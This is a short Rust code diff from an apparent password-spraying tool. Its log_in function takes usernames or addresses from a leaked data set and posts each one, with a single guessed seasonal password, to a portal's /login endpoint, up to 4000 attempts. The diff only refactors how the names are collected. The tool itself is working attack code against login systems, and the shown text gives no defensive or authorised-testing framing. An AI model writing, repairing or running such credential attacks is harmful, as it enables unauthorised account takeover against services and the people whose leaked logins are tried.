@@ -14,10 +14,11 @@ const MOST: usize = 4000;
 /// Tries every login of the leak at the portal, each with a guessed password.
 pub async fn log_in(leak: &Leak, portal: SocketAddr) -> anyhow::Result<usize> {
     let client = reqwest::Client::builder().no_proxy().build()?;
-    let names: Vec<&String> = if leak.logins.is_empty() { leak.addresses.iter() } else { leak.logins.iter() }.take(MOST).collect();
+    let names = if leak.logins.is_empty() { &leak.addresses } else { &leak.logins };
+    let names: Vec<String> = names.iter().take(MOST).cloned().collect();
     let tried = names.len();
-    let attempts = stream::iter(names).map(|name| {
-        let form = format!("username={}&password=Printemps2026!", escaped(name));
+    let attempts = stream::iter(names).map(|name: String| {
+        let form = format!("username={}&password=Printemps2026!", escaped(&name));
         client
             .post(format!("http://{portal}/login"))
             .header("content-type", "application/x-www-form-urlencoded")
